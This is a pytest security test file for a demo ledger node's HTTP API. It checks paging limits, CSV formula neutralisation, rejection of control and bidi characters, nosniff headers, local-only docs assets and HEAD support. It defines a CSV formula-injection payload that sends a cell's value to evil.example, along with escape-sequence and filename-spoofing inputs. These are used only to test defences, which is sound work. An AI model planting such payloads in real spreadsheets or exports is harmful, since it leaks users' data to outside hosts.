"""Attacks from outside and through other people's screens, played over HTTP on a demo
node: applications from throw-away keys, lists that must stay bounded, formula cells in CSV
exports, control characters, sniffing, CDN assets in /docs, and HEAD."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.demo.build import build_demo
from api.demo.district import CHAIN
from api.demo.simulation import derive_key
from api.node import paging
from api.node.runtime import Node
from api.server.app import create_app
from api.server.serving import open_exchange_node
from exchange import records as R
from ledger.crypto.keys import SigningKey
from ledger.wire.record import Record, sign_body

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Node]:
    path = tmp_path_factory.mktemp("outsiders") / "demo"
    build_demo(path, seed=7, customers=20, days=2)
    opened = open_exchange_node(path, produce=False)
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def http(node: Node) -> Iterator[TestClient]:
    with TestClient(create_app(node)) as client:
        yield client


def fresh(label: str) -> SigningKey:
    return SigningKey.from_seed(hashlib.sha256(f"outsider:{label}".encode()).digest())


def signed(http: TestClient, key: SigningKey, build: Any, *args: Any, **kw: Any) -> Record:
    seq = http.get(f"/v1/signers/{key.public_hex}/seq").json()["last"] + 1
    node: Node = http.app.state.node  # type: ignore[attr-defined]
    kw.setdefault("expires", node.record_expires())
    return sign_body(build(CHAIN, key.public_hex, seq, *args, **kw), [key])


def submit(http: TestClient, node: Node, *records: Record) -> list[dict[str, Any]]:
    """Submit as a batch, cut the blocks, and return each record's final status."""
    body = json.dumps({"records": [r.to_wire() for r in records]})
    assert http.post("/v1/records/batch", content=body).status_code == 200
    node.produce_now()
    return [http.get(f"/v1/records/{r.id}").json() for r in records]


def test_applications_from_fresh_keys_show_up_paged_with_their_lapse_time(
        http: TestClient, node: Node) -> None:
    height = node.replica.height
    records = [signed(http, fresh(f"a{n}"), R.apply_merchant, f"spam-{n:03}", f"Spam {n}")
               for n in range(30)]
    assert [s["status"] for s in submit(http, node, *records)] == ["committed"] * 30
    assert node.replica.height > height
    seen, url, pages = [], "/v1/merchants?status=applied&limit=7", 0
    while url:
        answer = http.get(url)
        page = answer.json()
        assert len(page["merchants"]) <= 7
        seen += page["merchants"]
        pages += 1
        url = re.match(r"<(.*)>", answer.headers.get("link", "<>")).group(1)
        assert (page["next"] is None) == (url == "")
    assert pages == 5 and [m["id"] for m in seen] == [f"spam-{n:03}" for n in range(30)]
    assert all(m["lapses_ms"] > node.replica.time_ms for m in seen)


def test_every_list_endpoint_is_bounded_in_rows_and_bytes(
        http: TestClient, node: Node, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(paging, "page_bytes_max", 1500)
    for url, key in [("/v1/merchants", "merchants"), ("/v1/programs", "programs"),
                     ("/v1/blocks?records=true&limit=100", "blocks"),
                     ("/v1/tables/x_keys?limit=500", "rows"), ("/v1/rates", "rates"),
                     ("/v1/offers", "offers")]:
        answer = http.get(url)
        body = answer.json()
        items = body[key]
        assert len(items) >= 1 and body["next"] is not None, url
        if len(items) > 1:
            assert paging.json_bytes(items) <= 1500, url
            assert len(answer.content) < 1500 + 1000, url  # the envelope is small and fixed
        following = re.match(r"<(.+)>; rel=\"next\"", answer.headers["link"]).group(1)
        assert http.get(following).json()[key][0] != items[0], url
    for url in ("/v1/merchants?limit=501", "/v1/blocks?limit=101", "/v1/programs?limit=0",
                "/v1/offers?after=nope", "/v1/rates?after=%5B"):
        assert http.get(url).status_code == 400, url


def test_blocks_pages_walk_the_whole_chain_by_next(http: TestClient, node: Node,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(paging, "page_bytes_max", 20_000)
    heights, url = [], "/v1/blocks?records=true&limit=100"
    while url:
        page = http.get(url).json()
        heights += [b["height"] for b in page["blocks"]]
        url = f"/v1/blocks?records=true&limit=100&after={page['next']}" if page["next"] else ""
    assert heights == list(range(1, node.replica.height + 1))


def test_formula_cells_are_neutralised_in_every_csv_export(http: TestClient,
                                                           node: Node) -> None:
    merchant = derive_key(7, "merchant:village-kitchen")
    customer = fresh("csv-customer")
    issue = signed(http, merchant, R.issue, "vk", customer.public_hex, 500, HYPERLINK)
    assert submit(http, node, issue)[0]["status"] == "committed"
    redeem = signed(http, customer, R.redeem, "vk", 100, HYPERLINK)
    apply = signed(http, fresh("csv-shop"), R.apply_merchant, "formula-shop", "=1+2 Shop")
    assert [s["status"] for s in submit(http, node, redeem, apply)] == ["committed"] * 2
    height = http.get(f"/v1/records/{apply.id}").json()["height"]
    exports = [f"/accounts/{customer.public_hex}/history.csv", "/records.csv",
               f"/blocks/{height}/records.csv"]
    for url in exports:
        answer = http.get(url)
        assert answer.headers["x-content-type-options"] == "nosniff"
        cells = [c for row in csv.reader(io.StringIO(answer.text)) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], url
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()]
    history = list(csv.DictReader(io.StringIO(http.get(exports[0]).text)))
    assert [(r["kind"], r["delta"], r["ref"]) for r in history] == [
        ("redeem", "-100", "'" + HYPERLINK), ("issue", "500", "'" + HYPERLINK)]
    summaries = [r["summary"] for r in csv.DictReader(io.StringIO(http.get(exports[2]).text))]
    assert "'=1+2 Shop applies to join" in summaries


@pytest.mark.parametrize("bad", ["\x00", "\x1b[2J", "\u202egpj.exe"])
def test_control_and_bidi_characters_are_refused_at_the_door(http: TestClient, node: Node,
                                                             bad: str) -> None:
    state, height = node.replica.state, node.replica.height
    merchant = derive_key(7, "merchant:village-kitchen")
    attempts = [signed(http, merchant, R.issue, "vk", fresh("c").public_hex, 5, f"r{bad}"),
                signed(http, fresh(f"p{bad!r}"), R.apply_merchant, "bidi-shop", "Shop",
                       description=f"best{bad}"),
                signed(http, fresh(f"q{bad!r}"), R.apply_merchant, "bidi-shop", "Shop",
                       address=f"12{bad}")]
    for record in attempts:
        answer = http.post("/v1/records", content=record.wire_bytes())
        assert answer.status_code == 422
        assert answer.json()["code"] == "payload_malformed"
    assert (node.replica.state, node.replica.height) == (state, height)
    assert len(node.consortium.mempool) == 0


def test_json_and_csv_answers_are_never_sniffed(http: TestClient) -> None:
    for url in ("/v1/status", "/v1/merchants", "/v1/nope", "/blocks.csv", "/blocks.json",
                "/openapi.json", "/"):
        assert http.get(url).headers["x-content-type-options"] == "nosniff", url
    big = http.post("/v1/records", content=b"x", headers={"content-length": "999999999"})
    assert big.status_code == 413 and big.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("path", ["/docs", "/redoc"])
def test_docs_pages_load_nothing_from_another_host(http: TestClient, path: str) -> None:
    page = http.get(path)
    assert page.status_code == 200
    sources = re.findall(r"""(?:src|href)\s*=\s*["']([^"']+)""", page.text)
    urls = re.findall(r"""(?:url|openapi_url|spec-url)\s*[:=]\s*["']([^"']+)""", page.text)
    assert sources and all(s.startswith("/") for s in sources + urls), sources + urls
    assert "//" not in "".join(sources + urls) and "googleapis" not in page.text
    for asset in sources:
        assert http.get(asset).status_code == 200, asset


def test_head_answers_wherever_get_does(http: TestClient, node: Node) -> None:
    account = fresh("csv-customer").public_hex
    for url in ("/v1/status", "/v1/merchants?limit=2", f"/v1/blocks/{node.replica.height}",
                "/blocks.csv", "/alliance", "/healthz", "/docs", "/static/explorer.css",
                f"/accounts/{account}/history.csv"):
        got, head = http.get(url), http.head(url)
        assert head.status_code == got.status_code == 200, url
        assert head.content == b"" and head.headers["content-type"] == \
            got.headers["content-type"], url
    assert http.head("/v1/nope").status_code == 404


def test_members_reject_an_application_over_http_and_the_pages_still_hold(
        http: TestClient, node: Node) -> None:
    apply = signed(http, fresh("squatter"), R.apply_merchant, "squat-shop", "Squat")
    assert submit(http, node, apply)[0]["status"] == "committed"
    members = [derive_key(7, f"member:{m}") for m in ("chunxi-association", "jinjiang-bank",
                                                       "tianfu-telecom")]
    first = members[0].public_hex
    seq = http.get(f"/v1/signers/{first}/seq").json()["last"] + 1
    vote = sign_body(R.reject_merchant(CHAIN, [k.public_hex for k in members], seq,
                                       "squat-shop", "not a real shop",
                                       expires=node.record_expires()), members)
    assert submit(http, node, vote)[0]["status"] == "committed"
    assert http.get("/v1/merchants/squat-shop").status_code == 404
    page = http.get("/alliance")
    assert page.status_code == 200 and 'href="/merchants/squat-shop"' not in page.text
    assert "was refused by member vote" in page.text
